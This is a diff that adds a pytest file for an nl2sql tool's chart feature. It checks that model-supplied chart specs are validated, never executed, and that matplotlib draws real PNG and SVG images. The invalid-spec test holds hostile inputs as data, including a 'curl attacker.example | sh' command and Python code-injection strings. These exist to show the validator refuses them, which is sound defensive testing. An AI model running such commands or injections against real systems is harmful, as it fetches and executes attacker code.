@@ -1,0 +1,138 @@
+"""Charts: a validated spec (never code), drawn by our matplotlib code into real pixels."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from nl2sql.annotations import find_annotation_file
+from nl2sql.catalog import Catalog, build_catalog
+from nl2sql.charts import ChartError, ChartSpec, InvalidChartSpec, choose_chart, pick_chart, render, validate_spec
+from nl2sql.datasource import resolve
+from nl2sql.pipeline import run_sql
+from nl2sql.sandbox import Limits, Result, Sandbox
+
+COLUMNS = ["category", "revenue", "orders"]
+
+
+@pytest.fixture(scope="module")
+def shop() -> Iterator[tuple[Catalog, Sandbox]]:
+    source = resolve(None)
+    catalog = build_catalog(source, find_annotation_file("shop", None, None), None, use_cache=False)
+    with Sandbox(source, Limits(timeout=30)) as sandbox:
+        yield catalog, sandbox
+
+
+def _query(shop: tuple[Catalog, Sandbox], sql: str) -> Result:
+    result = run_sql(sql, shop[0], shop[1], 1000).result
+    assert result is not None
+    return result
+
+
+def test_a_valid_spec() -> None:
+    spec = validate_spec({"type": "bar", "x": "category", "y": "revenue", "sort": "desc", "limit": 10}, COLUMNS)
+    assert spec == ChartSpec("bar", "category", ("revenue",), sort="desc", limit=10)
+    assert spec.to_dict() == {"type": "bar", "x": "category", "y": ["revenue"], "sort": "desc", "limit": 10}
+
+
+@pytest.mark.parametrize("raw, message", [
+    ({"type": "bar", "x": "__import__('os').system('order_id')", "y": "total"}, "is not a column of the result"),
+    ("import os; os.system('curl attacker.example | sh')", "must be a JSON object"),
+    ({"type": "plotly", "x": "category", "y": "revenue"}, "chart type must be one of"),
+    ({"type": "bar", "x": "category", "y": []}, "y must be"),
+    ({"type": "bar", "x": "category", "y": "revenue", "code": "exec('x')"}, "unknown chart fields: code"),
+    ({"type": "bar", "x": "category", "y": "revenue", "limit": 10**9}, "limit must be"),
+    ({"type": "bar", "x": "category", "y": "revenue", "series": "region"}, "'region' is not a column"),
+    ({"type": "bar", "x": "category", "y": "revenue", "sort": "random()"}, "sort must be"),
+])
+def test_invalid_specs_are_refused(raw: object, message: str) -> None:
+    with pytest.raises(InvalidChartSpec, match=message.replace("(", r"\(").replace(")", r"\)")):
+        validate_spec(raw, COLUMNS)
+
+
+def test_an_invalid_model_spec_falls_back_to_rules() -> None:
+    columns = [("category", "VARCHAR"), ("revenue", "DOUBLE")]
+    spec, why = pick_chart({"type": "bar", "x": "__import__('os')", "y": "revenue"}, columns, 5, "Revenue")
+    assert spec == choose_chart(columns, 5, "Revenue") and spec is not None and spec.x == "category"
+    assert why is not None and "not a column" in why
+    spec, why = pick_chart({"type": "pie", "x": "category", "y": ["revenue"]}, columns, 5, "Revenue")
+    assert spec is not None and spec.type == "pie" and why is None and spec.title == "Revenue"
+
+
+def _pixels(path: Path) -> tuple[int, int]:
+    """(distinct colours, share of non-white pixels) of a PNG."""
+    import matplotlib.image as mpimg
+
+    img = mpimg.imread(path)[:, :, :3]
+    flat = (img.reshape(-1, 3) * 255).astype(int)
+    colours = len({tuple(p) for p in flat[:: 7]})
+    ink = float((flat.sum(axis=1) < 720).mean())
+    return colours, ink
+
+
+CASES = {
+    "bar": ("SELECT p.category, SUM(i.quantity * i.unit_price) AS revenue FROM order_items i "
+            "JOIN products p ON p.product_id = i.product_id GROUP BY 1 ORDER BY 2 DESC", None),
+    "barh": ("SELECT p.product_name, SUM(i.quantity) AS units FROM order_items i "
+             "JOIN products p ON p.product_id = i.product_id GROUP BY 1", None),
+    "line": ("SELECT date_trunc('month', order_date) AS month, COUNT(*) AS orders FROM orders GROUP BY 1", None),
+    "area": ("SELECT date_trunc('month', order_date) AS month, channel, COUNT(*) AS orders FROM orders "
+             "GROUP BY 1, 2", {"stacked": True}),
+    "scatter": ("SELECT p.unit_price, SUM(i.quantity) AS units FROM order_items i "
+                "JOIN products p ON p.product_id = i.product_id GROUP BY 1", None),
+    "pie": ("SELECT channel, COUNT(*) AS orders FROM orders GROUP BY 1", None),
+    "histogram": ("SELECT unit_price, product_id FROM products", None),
+}
+
+
+@pytest.mark.parametrize("kind", list(CASES))
+def test_each_chart_type_draws_a_real_image(kind: str, shop: tuple[Catalog, Sandbox], tmp_path: Path) -> None:
+    sql, extra = CASES[kind]
+    result = _query(shop, sql)
+    names = [n for n, _ in result.columns]
+    base = choose_chart(result.columns, result.row_count, f"A {kind} chart") or ChartSpec(
+        kind, names[0], (names[1],))
+    spec = validate_spec({**base.to_dict(), "type": kind, **(extra or {})}, names)
+    path = tmp_path / f"{kind}.png"
+    render(spec, result.columns, result.rows, path)
+    colours, ink = _pixels(path)
+    assert colours > 10 and 0.01 < ink < 0.9, (kind, colours, ink)
+
+
+def test_svg_and_many_categories(shop: tuple[Catalog, Sandbox], tmp_path: Path) -> None:
+    result = _query(shop, CASES["barh"][0])
+    assert result.row_count > 15
+    spec = choose_chart(result.columns, result.row_count, "Units by product")
+    assert spec is not None
+    render(spec, result.columns, result.rows, tmp_path / "c.svg")
+    svg = (tmp_path / "c.svg").read_text()
+    assert svg.startswith("<?xml") and f"Other ({result.row_count - 14})" in svg
+    assert "Units by product" in svg
+
+
+def test_thousands_separators_on_the_value_axis(shop: tuple[Catalog, Sandbox], tmp_path: Path) -> None:
+    result = _query(shop, CASES["bar"][0])
+    spec = choose_chart(result.columns, result.row_count, "Revenue")
+    assert spec is not None
+    render(spec, result.columns, result.rows, tmp_path / "c.svg")
+    assert "10,000,000" in (tmp_path / "c.svg").read_text()
+
+
+def test_mathtext_in_data_labels_is_plain_text(tmp_path: Path) -> None:
+    # N05: a nested \frac label makes matplotlib's mathtext recurse until it fails
+    label = "$" + "\\frac{1}{" * 60 + "1" + "}" * 60 + "$"
+    columns = [("status", "VARCHAR"), ("orders", "BIGINT")]
+    rows = [(label, 5), ("completed", 9), ("$5 off$", 3)]
+    spec = ChartSpec("bar", "status", ("orders",), title=label)  # titles are not shortened like tick labels
+    render(spec, columns, rows, tmp_path / "c.png")
+    assert _pixels(tmp_path / "c.png")[1] > 0.01
+
+
+def test_a_pie_of_negative_values_is_refused(tmp_path: Path) -> None:
+    columns = [("channel", "VARCHAR"), ("change", "DOUBLE")]
+    with pytest.raises(ChartError, match="negative"):
+        render(ChartSpec("pie", "channel", ("change",)), columns, [("web", 5.0), ("mobile", -3.0)], tmp_path / "c.png")
+    with pytest.raises(ChartError, match=r"\.png or \.svg"):
+        render(ChartSpec("bar", "channel", ("change",)), columns, [("web", 5.0)], tmp_path / "c.gif")
